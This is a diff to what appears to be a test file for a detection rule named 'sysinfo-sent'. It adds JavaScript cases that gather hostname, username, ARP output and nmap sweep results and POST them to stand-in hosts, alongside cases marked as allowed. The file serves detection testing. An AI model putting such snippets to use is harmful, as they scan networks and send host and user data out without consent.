@@ -11,3 +11,23 @@ const beacon = got.extend({ prefixUrl: "https://b.example.invalid" });
 const facts = { h: os.hostname(), u: os.userInfo().username };
 // ruleid: sysinfo-sent
 await beacon.post("hi", { json: facts });
+
+const near = execSync("arp -a").toString();
+// ruleid: sysinfo-sent
+await fetch("https://census.example.com/near", { method: "POST", body: near });
+
+const scanned = await run("nmap", ["-sn", range]);
+// ruleid: sysinfo-sent
+await axios.post("https://census.example.com/hosts", { found: scanned.stdout });
+
+// ruleid: sysinfo-sent
+await fetch("https://census.example.com/who", { method: "POST", body: JSON.stringify({ who: process.env.USER }) });
+
+// ok: sysinfo-sent
+await fetch("https://wiki.example.com/v1", { method: "POST", body: JSON.stringify({ author: process.env.WIKI_USER }) });
+
+const linked = execSync("ip addr").toString();
+// ok: sysinfo-sent
+await fetch("https://wiki.example.com/v1", { method: "POST", body: linked });
+// ok: sysinfo-sent
+console.log(execSync("arp -a").toString());
